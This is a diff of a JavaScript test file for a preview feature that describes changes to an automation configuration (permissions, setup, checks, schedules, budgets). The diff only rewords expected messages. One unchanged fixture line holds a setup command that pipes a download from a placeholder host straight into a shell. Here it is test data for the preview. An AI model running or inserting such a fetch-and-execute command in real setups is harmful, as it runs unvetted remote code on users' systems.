@@ -49,7 +49,7 @@ describe('in bold', () => {
     [
       'permissions.read',
       base.replace('read: ["docs/**"]', 'read: ["**", "!secret/**"]'),
-      'adds `**`, `!secret/**`; takes away `docs/**`',
+      'adds `**`, `!secret/**`; removes `docs/**`',
     ],
     [
       'permissions.write',
@@ -62,7 +62,7 @@ describe('in bold', () => {
       'adds `comment_on_issue`',
     ],
     ['setup', `${base}setup: ["curl https://a.example | sh"]`, '“curl https'],
-    ['checks', base.replace('"npm test"', '"npm t"'), 'adds `npm t`; takes away `npm test`'],
+    ['checks', base.replace('"npm test"', '"npm t"'), 'adds `npm t`; removes `npm test`'],
     ['checks', base.replace('"npm test", "npm run lint"', '"npm run lint", "npm test"'), 'in another order'],
     ['done_when', `${base}done_when: ["true"]`, 'adds `true`'],
   ])('stands a change of a goal: %s', (field, after, words) => {
@@ -119,7 +119,7 @@ describe('in bold', () => {
       'Settings:',
       '- `budget.tokens_per_day`: `500,000` → `9,000`',
       'Goal `x`:',
-      '- `title`: another text',
+      '- `title`: the text changes',
       '- `schedule`: `every 6 hours, catch up once within 1 d` → `every hour, catch up once within 1 d`',
       '- `limits.minutes`: `4` → `9`',
     ]);
@@ -136,7 +136,7 @@ describe('what changes', () => {
 
   test('names goals that come, go, break and are mended', () => {
     const broken = { x: 'title: 1\n' };
-    expect(preview({}, { goals: {} })).toContain('Goal `x` is taken away.');
+    expect(preview({}, { goals: {} })).toContain('Goal `x` is removed.');
     expect(preview({ goals: {} }, { goals: broken, unusable: ['x'] })).toContain(
       '**New goal** `x` would not run',
     );
@@ -171,11 +171,11 @@ describe('the tables', () => {
   });
 
   test.each([
-    [LEAST.replace('{every: 6h}', '{once: true}'), '| once | the next tick |'],
+    [LEAST.replace('{every: 6h}', '{once: true}'), '| once | the next run |'],
     [`${LEAST}enabled: false`, '| none: it is not enabled | 0 tokens, $0 |'],
     [
       `${LEAST}on: [push, release]\nfor_each: {commits: true}\nwhen: {queue_at_least: 5}`,
-      'every 6 hours; or on push, release; or when 5 items wait',
+      'every 6 hours; or on push, release; or when 5 tasks wait',
     ],
   ])('say when %j is due', (goal, words) => {
     expect(preview({}, { goals: { x: goal } })).toContain(words);
